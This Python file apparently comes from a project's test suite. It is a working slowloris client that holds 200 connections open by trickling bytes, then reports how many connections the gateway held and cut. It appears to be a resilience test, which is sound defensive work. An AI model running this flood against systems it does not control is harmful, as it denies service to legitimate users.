"""One client that holds connections (slowloris): ``python -P -m tests.kernel.attacks.hold ADDRESS PORT HEAD``, run in a phone's namespace.

200 connections send HEAD and then a byte every half second; one that is cut is opened anew. Until SIGTERM; then a line says what was had.
"""

import asyncio
import contextlib
import signal
import sys
import time
from dataclasses import dataclass, field

import msgspec
from msgspec import Struct

COUNT = 200


class Held(Struct, frozen=True):
    """What the attacker got."""

    most: int
    """Connections at the same time."""
    longest: float
    """Seconds."""
    cut: int
    """Connections that the gateway ended."""


@dataclass
class _Hold:
    address: str
    port: int
    head: bytes
    now: int = 0
    most: int = 0
    lasted: list[float] = field(default_factory=list)

    async def run(self) -> None:
        """Hold one connection after the other."""
        while True:
            try:
                async with asyncio.timeout(3):
                    reader, writer = await asyncio.open_connection(self.address, self.port)
            except OSError:  # refused, or no answer
                await asyncio.sleep(0.2)  # the pace of the attack
                continue
            began = time.monotonic()
            self.now += 1
            self.most = max(self.most, self.now)
            try:
                with contextlib.suppress(OSError):
                    await self._dribble(reader, writer)
            finally:
                self.now -= 1
                writer.transport.abort()
            self.lasted.append(time.monotonic() - began)

    async def _dribble(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(self.head)
        while True:
            try:
                async with asyncio.timeout(0.5):
                    if not await reader.read(4_096):
                        return
            except TimeoutError:
                writer.write(b"x")


async def _main(address: str, port: str, head: str) -> None:
    stop, hold = asyncio.Event(), _Hold(address, int(port), head.encode().decode("unicode_escape").encode())
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    sys.stderr.write("the flood begins\n")
    async with asyncio.TaskGroup() as group:
        tasks = [group.create_task(hold.run()) for _ in range(COUNT)]
        await stop.wait()
        for task in tasks:
            task.cancel()
    held = Held(hold.most, max(hold.lasted, default=0.0), len(hold.lasted))
    sys.stderr.write(f"{msgspec.json.encode(held).decode()}\n")


if __name__ == "__main__":
    asyncio.run(_main(*sys.argv[1:]))
